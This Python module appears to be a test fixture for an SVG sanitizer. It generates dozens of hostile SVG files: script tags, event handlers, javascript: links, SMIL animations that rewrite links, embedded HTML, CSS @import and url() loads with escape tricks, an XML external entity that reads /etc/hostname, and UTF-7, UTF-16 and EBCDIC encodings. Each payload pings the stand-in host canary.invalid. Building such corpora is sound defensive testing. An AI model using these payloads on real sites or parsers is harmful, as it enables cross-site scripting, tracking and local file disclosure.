"""SVG files that would run, load or lead elsewhere, each in its own way.

`CANARY` stands for an address at which somebody counts requests, `RUN` for a script that makes one.
"""

from __future__ import annotations

__all__ = ["CANARY", "HOSTILE", "RUN", "hostile"]

CANARY = "http://canary.invalid/"
#: One statement, without quotes of either kind, so that it fits everywhere.
RUN = "top.ran=1;new Image().src=`http://canary.invalid/ran`"

_OPEN = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'width="100" height="100">'
)
_BOX = '<rect width="100" height="100" fill="#9ab"/>'
_HTML = 'xmlns="http://www.w3.org/1999/xhtml"'


def _svg(inner: str) -> str:
    return f"{_OPEN}{inner}</svg>"


def _root(attributes: str, inner: str = _BOX) -> str:
    return f"{_OPEN.removesuffix('>')} {attributes}>{inner}</svg>"


_SCRIPTS = {
    "script": _svg(f"<script>{RUN}</script>{_BOX}"),
    "script in CDATA": _svg(f"<script><![CDATA[{RUN}]]></script>{_BOX}"),
    "script of a type": _svg(f'<script type="application/ecmascript">{RUN}</script>'),
    "module": _svg(f'<script type="module">{RUN}</script>'),
    "script from elsewhere": _svg(f'<script href="{CANARY}a.js"/>'),
    "script from elsewhere, xlink": _svg(f'<script xlink:href="{CANARY}a.js"/>'),
    "script from data": _svg(f'<script href="data:text/javascript,{RUN}"/>'),
    "script with a prefix": _svg(
        f'<s:script xmlns:s="http://www.w3.org/2000/svg">{RUN}</s:script>{_BOX}'
    ),
    "script of HTML": _svg(f"<script {_HTML}>{RUN}</script>{_BOX}"),
    "script of HTML with a prefix": _svg(
        f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">{RUN}</h:script>{_BOX}'
    ),
    "script in odd case": _svg(f"<ScRiPt>{RUN}</ScRiPt>{_BOX}"),
    "script in defs": _svg(f"<defs><g><script>{RUN}</script></g></defs>{_BOX}"),
    "script in a title": _svg(f"<title>x<script>{RUN}</script></title>{_BOX}"),
    "script in text": _svg(f"<text>x<tspan><script>{RUN}</script></tspan></text>"),
    "script in metadata": _svg(f"<metadata><script>{RUN}</script></metadata>{_BOX}"),
    "script in an unknown element": _svg(f"<unknown><script>{RUN}</script></unknown>{_BOX}"),
    "script in a switch": _svg(f"<switch><script>{RUN}</script>{_BOX}</switch>"),
    "script in a nested svg in HTML": _svg(
        f"<foreignObject width='9' height='9'><p {_HTML}>"
        f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg></p></foreignObject>"
    ),
    "script from an entity": f'<!DOCTYPE svg [<!ENTITY r "{RUN}">]>{_OPEN}'
    "<script>&r;</script></svg>",
    "handler of SVG Tiny": _svg(f'<handler type="text/ecmascript">{RUN}</handler>{_BOX}'),
    "a prefix that is another's": (
        f'<x:svg xmlns:x="http://www.w3.org/2000/svg" width="9" height="9">'
        f"<x:script>{RUN}</x:script></x:svg>"
    ),
}
_HANDLERS = {
    "onload": _root(f'onload="{RUN}"'),
    "onload in odd case": _root(f'OnLoAd="{RUN}"'),
    "onload of an element": _svg(f'<g onload="{RUN}">{_BOX}</g>'),
    "onerror of an image": _svg(
        f'<image href="{CANARY}x.png" width="9" height="9" onerror="{RUN}"/>'
    ),
    "onbegin of an animation": _svg(
        f'<rect width="9" height="9"><set attributeName="x" to="1" begin="0s" onbegin="{RUN}"/>'
        "</rect>"
    ),
    "onfocus": _root(f'tabindex="1" autofocus="" onfocus="{RUN}" onfocusin="{RUN}"'),
    "onclick": _svg(f'<rect width="100" height="100" onclick="{RUN}"/>'),
    "onpointermove": _svg(f'<rect width="100" height="100" onpointermove="{RUN}"/>'),
    "onload with references": _root(f'onload="{RUN.replace("t", "&#116;")}"'),
    "handler from a DOCTYPE": (
        f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{RUN}">]>{_OPEN}{_BOX}</svg>'
    ),
    "handler from an entity": (
        f'<!DOCTYPE svg [<!ENTITY r "{RUN}">]>{_OPEN.removesuffix(">")} onload="&r;">{_BOX}</svg>'
    ),
    "handler after a quote": _root(f"class='&quot; onload=&quot;{RUN}'"),
}


def _link(target: str, *, attribute: str = "href") -> str:
    return _svg(f'<a {attribute}="{target}">{_BOX}</a>')


_LINKS = {
    "javascript": _link(f"javascript:{RUN}"),
    "javascript, xlink": _link(f"javascript:{RUN}", attribute="xlink:href"),
    "javascript in odd case": _link(f"JaVaScRiPt:{RUN}"),
    "javascript after a space": _link(f" javascript:{RUN}"),
    "javascript after control characters": _link(f"&#9;&#10;&#13; javascript:{RUN}"),
    "javascript split by a line feed": _link(f"java&#10;script:{RUN}"),
    "javascript split by a tab": _link(f"j&#9;a&#9;vascript&#9;:{RUN}"),
    "javascript in references": _link(f"&#x6A;avascript&#58;{RUN}"),
    "javascript after a comment of its own": _link(f"javascript://%0A{RUN}"),
    "data with HTML": _link(f"data:text/html,&lt;script&gt;{RUN}&lt;/script&gt;"),
    "another site": _link(CANARY),
    "another site without a scheme": _link(CANARY.removeprefix("http:")),
    "another site, backslashes": _link(CANARY.removeprefix("http:").replace("/", "\\")),
    "another file": _link("other.html"),
    "a link to a target frame": _svg(
        f'<a href="{CANARY}" target="_top" ping="{CANARY}">{_BOX}</a>'
    ),
    "a base": _root(f'xml:base="{CANARY}"', f'<a href="#x">{_BOX}</a><use href="#y"/>'),
}
_ANIMATIONS = {
    "set writes href": _svg(
        f'<a href="#x">{_BOX}<set attributeName="href" to="javascript:{RUN}"/></a>'
    ),
    "set writes xlink:href": _svg(
        f'<a href="#x">{_BOX}<set attributeName="xlink:href" to="javascript:{RUN}"/></a>'
    ),
    "set writes href through another prefix": _svg(
        f'<a href="#x">{_BOX}<set xmlns:l="http://www.w3.org/1999/xlink" '
        f'attributeName="l:href" to="javascript:{RUN}"/></a>'
    ),
    "set writes href after spaces": _svg(
        f'<a href="#x">{_BOX}<set attributeName=" href&#10;" to="javascript:{RUN}"/></a>'
    ),
    "animate writes href": _svg(
        f'<a href="#x">{_BOX}<animate attributeName="href" values="javascript:{RUN};#x" dur="9s"/>'
        "</a>"
    ),
    "animate from afar writes href": _svg(
        f'<a id="l" href="#x">{_BOX}</a><animate xlink:href="#l" attributeName="href" '
        f'to="javascript:{RUN}" dur="1s" fill="freeze"/>'
    ),
    "set writes a handler": _svg(
        f'<rect width="100" height="100"><set attributeName="onclick" to="{RUN}"/></rect>'
    ),
    "set writes an image": _svg(
        f'<image width="9" height="9"><set attributeName="href" to="{CANARY}x.png"/></image>'
    ),
    "set writes a paint": _svg(
        f'<rect width="9" height="9"><set attributeName="fill" to="url({CANARY}x.svg#a)"/></rect>'
    ),
    "animate writes a filter": _svg(
        f'<rect width="9" height="9"><animate attributeName="filter" dur="9s" '
        f'values="none;url({CANARY}x.svg#a)"/></rect>'
    ),
}
_EMBEDDED = {
    "foreignObject": _svg(
        f'<foreignObject width="9" height="9"><img {_HTML} src="x" onerror="{RUN}"/>'
        "</foreignObject>"
    ),
    "iframe": _svg(
        f'<foreignObject width="9" height="9"><iframe {_HTML} src="{CANARY}"/></foreignObject>'
    ),
    "iframe without a foreignObject": _svg(f'<iframe {_HTML} src="{CANARY}"/>'),
    "embed": _svg(f'<embed {_HTML} src="{CANARY}x.swf"/>'),
    "object": _svg(f'<object {_HTML} data="{CANARY}x"/>'),
    "video": _svg(f'<video {_HTML} src="{CANARY}x.webm"/>'),
    "form": _svg(
        f'<foreignObject width="9" height="9"><form {_HTML} action="{CANARY}"><input autofocus="" '
        f'onfocus="{RUN}"/></form></foreignObject>'
    ),
    "meta": _svg(f'<meta {_HTML} http-equiv="refresh" content="0;url={CANARY}"/>{_BOX}'),
    "link": _svg(f'<link {_HTML} rel="stylesheet" href="{CANARY}x.css"/>{_BOX}'),
    "base": _svg(f'<base {_HTML} href="{CANARY}"/><a href="#x">{_BOX}</a>'),
    "use of data": _svg(
        "<use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;"
        f'&lt;script&gt;{RUN}&lt;/script&gt;&lt;/svg&gt;#x"/>'
    ),
    "use of another file": _svg(f'<use href="{CANARY}x.svg#a"/>'),
    "use of another file, xlink": _svg(f'<use xlink:href="{CANARY}x.svg#a"/>'),
    "image of another site": _svg(f'<image href="{CANARY}x.png" width="9" height="9"/>'),
    "image of a neighbour": _svg('<image href="/neighbour.png" width="9" height="9"/>'),
    "image of data with SVG": _svg(
        '<image width="9" height="9" href="data:image/svg+xml,&lt;svg '
        f"xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/&gt;\"/>"
    ),
    "image of data that is no image": _svg(
        '<image width="9" height="9" href="data:image/png;base64,PGh0bWw+PHNjcmlwdD4="/>'
    ),
    "feImage": _svg(
        f'<filter id="f"><feImage href="{CANARY}x.png"/></filter>'
        '<rect width="9" height="9" filter="url(#f)"/>'
    ),
    "textPath": _svg(f'<text><textPath href="{CANARY}x.svg#p">x</textPath></text>'),
    "gradient": _svg(
        f'<linearGradient id="g" href="{CANARY}x.svg#g"/><rect width="9" height="9" '
        'fill="url(#g)"/>'
    ),
    "font": _svg(
        "<defs><font><font-face font-family='x'><font-face-src>"
        f'<font-face-uri xlink:href="{CANARY}x.svg"/></font-face-src></font-face></font></defs>'
    ),
    "cursor": _svg(f'<cursor id="c" xlink:href="{CANARY}x.cur"/>{_BOX}'),
    "color profile": _svg(f'<color-profile name="p" xlink:href="{CANARY}x.icc"/>{_BOX}'),
    "src": _svg(f'<image src="{CANARY}x.png" width="9" height="9"/>'),
}


def _sheet(css: str) -> str:
    return _svg(f'<style>{css}</style><rect class="a" width="100" height="100"/>')


_STYLES = {
    "import": _sheet(f'@import "{CANARY}x.css";'),
    "import with url": _sheet(f"@import url({CANARY}x.css);"),
    "import in odd case": _sheet(f"@ImPoRt '{CANARY}x.css' screen;"),
    "import with an escape": _sheet(f"@\\69mport '{CANARY}x.css';"),
    "import after a comment": _sheet(f"/* x */@import/**/'{CANARY}x.css';"),
    "import without an end": _sheet(f"@import '{CANARY}x.css'"),
    "import in CDATA": _sheet(f"<![CDATA[@import '{CANARY}x.css';]]>"),
    "import in pieces": _sheet(f"@imp<!-- x -->ort '{CANARY}x.css';"),
    "import within layers": _sheet(f"@layer a;@import '{CANARY}x.css' layer(b);"),
    "background": _sheet(f"svg {{ background: url({CANARY}x.png) }}"),
    "background, quoted": _sheet(f"svg {{ background: url( '{CANARY}x.png' ) }}"),
    "background with an escape": _sheet(f"svg {{ background: \\75rl({CANARY}x.png) }}"),
    "background with a long escape": _sheet(f"svg {{ background: u\\000072l('{CANARY}x.png') }}"),
    "background in odd case": _sheet(f"svg {{ background: URL({CANARY}x.png) }}"),
    "an escape in the address": _sheet(
        f"svg {{ background: url({CANARY.replace(':', chr(92) + '3a ')}x.png) }}"
    ),
    "a comment in the address": _sheet(f"svg {{ background: url(/**/{CANARY}x.png) }}"),
    "an address after a hash in a comment": _sheet(
        f"svg {{ background: /* url(#a */ url({CANARY}x.png) }}"
    ),
    "an address after a string with an end in it": _sheet(
        f"svg::before {{ content: 'url(#a'; background: url({CANARY}x.png) }}"
        f"svg {{ background: url({CANARY}x.png) }}"
    ),
    "image-set": _sheet(f"svg {{ background: image-set('{CANARY}x.png' 1x) }}"),
    "-webkit-image-set": _sheet(f"svg {{ background: -webkit-image-set(url({CANARY}x.png) 1x) }}"),
    "image-set of a variable": _sheet(
        f"svg {{ --x: '{CANARY}x.png'; background: image-set(var(--x) 1x) }}"
    ),
    "a variable with an address": _sheet(
        f"svg {{ --x: url({CANARY}x.png); background: var(--x) }}"
    ),
    "cross-fade": _sheet(
        f"svg {{ background: -webkit-cross-fade(url({CANARY}x.png), url({CANARY}y.png), 50%) }}"
    ),
    "within @media": _sheet(f"@media all {{ svg {{ background: url({CANARY}x.png) }} }}"),
    "within @supports": _sheet(
        f"@supports (color: red) {{ @media all {{ svg {{ background: url({CANARY}x.png) }} }} }}"
    ),
    "nested rules": _sheet(f"svg {{ & .a, & {{ background: url({CANARY}x.png) }} }}"),
    "font-face": _svg(
        f"<style>@font-face {{ font-family: x; src: url({CANARY}x.woff2) }}</style>"
        '<text y="50" font-family="x">text</text>'
    ),
    "cursor in a sheet": _sheet(f".a {{ cursor: url({CANARY}x.cur), auto }}"),
    "filter in a sheet": _sheet(f".a {{ filter: url({CANARY}x.svg#f) }}"),
    "mask in a sheet": _sheet(f".a {{ mask-image: url({CANARY}x.png); mask: url({CANARY}y.png) }}"),
    "keyframes": _sheet(
        f"@keyframes k {{ to {{ background: url({CANARY}x.png) }} }} svg {{ animation: k 1s both }}"
    ),
    "property": _sheet(
        "@property --p { syntax: '&lt;url>'; inherits: false; "
        f"initial-value: url({CANARY}x.png) }}"
        "svg { background: var(--p) }"
    ),
    "binding": _sheet(f".a {{ -moz-binding: url({CANARY}x.xml#x); behavior: url({CANARY}x.htc) }}"),
    "an unclosed string": _sheet(f"svg {{ background: url('{CANARY}x.png"),
    "an unclosed address": _sheet(f"svg {{ background: url({CANARY}x.png"),
    "a style sheet in another type": _svg(
        f'<style type="text/less">@import "{CANARY}x.css";</style>{_BOX}'
    ),
    "a style of HTML": _svg(f'<style {_HTML}>@import "{CANARY}x.css";</style>{_BOX}'),
    "a style attribute": _root(f'style="background: url({CANARY}x.png)"'),
    "a style attribute with escapes": _root(f'style="background: \\75 \\72 \\6c({CANARY}x.png)"'),
    "a style attribute with references": _root(
        f'style="background: &#117;&#114;&#108;&#40;{CANARY}x.png)"'
    ),
    "a style attribute with image-set": _root(
        f"style=\"background: image-set('{CANARY}x.png' 1x)\""
    ),
    "fill": _svg(f'<rect width="9" height="9" fill="url({CANARY}x.svg#a) red"/>'),
    "fill with an escape": _svg(f'<rect width="9" height="9" fill="ur\\6c ({CANARY}x.svg#a)"/>'),
    "fill without a scheme": _svg(
        f'<rect width="9" height="9" fill="url({CANARY.removeprefix("http:")}x.svg#a)"/>'
    ),
    "filter": _svg(f'<rect width="9" height="9" filter="url({CANARY}x.svg#a)"/>'),
    "clip-path": _svg(f'<rect width="9" height="9" clip-path="url({CANARY}x.svg#a)"/>'),
    "mask": _svg(f'<rect width="9" height="9" mask="url({CANARY}x.svg#a)"/>'),
    "marker": _svg(f'<path d="M0 0h9" marker-end="url({CANARY}x.svg#a)"/>'),
    "cursor attribute": _svg(f'<rect width="99" height="99" cursor="url({CANARY}x.cur),auto"/>'),
}
_PROLOGS = {
    "style sheet instruction": f'<?xml-stylesheet href="{CANARY}x.css"?>{_svg(_BOX)}',
    "style sheet instruction after spaces": (
        f'<?xml version="1.0"?>\n\n<?xml-stylesheet  type="text/xsl" href="{CANARY}x.xsl"?>'
        + _svg(_BOX)
    ),
    "style sheet instruction with data": (
        f"<?xml-stylesheet href=\"data:text/css,@import '{CANARY}x.css'\"?>{_svg(_BOX)}"
    ),
    "external DTD": f'<!DOCTYPE svg SYSTEM "{CANARY}x.dtd">{_svg(_BOX)}',
    "external entity": (
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{CANARY}x.txt">]>{_OPEN}<text>&x;</text></svg>'
    ),
    "file entity": (
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>{_OPEN}<text>&x;</text></svg>'
    ),
    "namespace from an entity": (
        '<!DOCTYPE svg [<!ENTITY n "http://www.w3.org/2000/svg">]>'
        f'<svg xmlns="&n;" width="9" height="9"><script>{RUN}</script></svg>'
    ),
}

#: Everything that is well-formed XML in UTF-8.
HOSTILE: dict[str, str] = {
    **_SCRIPTS,
    **_HANDLERS,
    **{f"link: {name}": text for name, text in _LINKS.items()},
    **_ANIMATIONS,
    **{f"embedded: {name}": text for name, text in _EMBEDDED.items()},
    **{f"style: {name}": text for name, text in _STYLES.items()},
    **_PROLOGS,
}
_ENCODED = {
    "UTF-16": _SCRIPTS["script"].encode("utf-16"),
    "UTF-16, big end first, declared": (
        '<?xml version="1.0" encoding="UTF-16"?>' + _SCRIPTS["script"]
    ).encode("utf-16-be"),
    "a byte order mark": b"\xef\xbb\xbf" + _SCRIPTS["script"].encode(),
    "Latin 1": (
        '<?xml version="1.0" encoding="ISO-8859-1"?>'
        + _svg(f"<script>{RUN}</script><text>é</text>")
    ).encode("latin-1"),
    "UTF-7": (
        '<?xml version="1.0" encoding="UTF-7"?>' + _svg(f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-")
    ).encode("ascii"),
    "UTF-7, not declared": _svg(f"<text>+ADw-script+AD4-{RUN}+ADw-/script+AD4-</text>").encode(),
    "EBCDIC": b'<?xml version="1.0" encoding="cp037"?>' + _SCRIPTS["script"].encode(),
}


def hostile(canary: str = CANARY) -> dict[str, bytes]:
    """Return all files by name, with another address in place of `CANARY`."""
    every = {name: text.encode() for name, text in HOSTILE.items()} | _ENCODED
    wide = {"utf-16-le": (CANARY, canary), "utf-16-be": (CANARY, canary)}
    found = {}
    for name, data in every.items():
        changed = data.replace(CANARY.encode(), canary.encode())
        for encoding, (old, new) in wide.items():
            changed = changed.replace(old.encode(encoding), new.encode(encoding))
        bare, own = (each.removeprefix("http:").encode() for each in (CANARY, canary))
        changed = changed.replace(bare, own)
        changed = changed.replace(bare.replace(b"/", b"\\"), own.replace(b"/", b"\\"))
        escaped = [each.replace(":", chr(92) + "3a ").encode() for each in (CANARY, canary)]
        found[name] = changed.replace(*escaped)
    return found
